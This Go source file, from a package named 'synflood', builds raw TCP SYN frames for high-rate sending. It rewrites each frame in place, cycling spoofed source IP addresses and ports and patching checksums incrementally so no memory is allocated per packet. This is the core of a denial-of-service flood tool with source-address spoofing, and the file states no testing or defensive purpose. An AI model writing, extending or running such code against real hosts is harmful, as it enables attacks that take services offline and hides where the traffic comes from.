package synflood

import (
	"encoding/binary"
	"net/netip"
	"slices"

	"fairlead.dev/agents/internal/rawip"
)

// Offsets in a frame of Ethernet, IPv4 and TCP without options.
const (
	ip         = 14
	ipChecksum = ip + 10
	ipSource   = ip + 12
	tcp        = ip + 20
	tcpNumber  = tcp + 4
	checksum   = tcp + 16
	frameBytes = tcp + 20

	firstPort = 1024
	ports     = 60_000
)

// frame is a SYN. It is changed in place, so that sending costs no allocation.
type frame []byte

func newFrame(o Options) frame {
	from := netip.AddrPortFrom(Sources.Addr(), firstPort)
	flow := rawip.Flow{From: from, To: o.Target, Protocol: rawip.TCP}
	return frame(slices.Concat([]byte(o.To), []byte(o.From), []byte{0x08, 0x00}, flow.Segment(0, rawip.SYN)))
}

// number makes it the SYN with a number: each of the first billions has its own address or port.
func (f frame) number(number uint64) {
	addresses := uint64(1) << (32 - Sources.Bits())
	first := Sources.Addr().As4()
	f.set32(ipSource, binary.BigEndian.Uint32(first[:])+uint32(number%addresses), ipChecksum, checksum)
	f.set16(tcp, firstPort+uint16(number/addresses%ports), checksum)
	f.set32(tcpNumber, uint32(number), checksum)
}

func (f frame) set32(at int, value uint32, sums ...int) {
	f.set16(at, uint16(value>>16), sums...)
	f.set16(at+2, uint16(value), sums...)
}

// set16 changes two bytes, and updates the checksums (RFC 1624).
func (f frame) set16(at int, value uint16, sums ...int) {
	before := binary.BigEndian.Uint16(f[at:])
	binary.BigEndian.PutUint16(f[at:], value)
	for _, sum := range sums {
		total := uint32(^binary.BigEndian.Uint16(f[sum:])) + uint32(^before) + uint32(value)
		total = total&0xffff + total>>16
		total = total&0xffff + total>>16
		binary.BigEndian.PutUint16(f[sum:], ^uint16(total))
	}
}
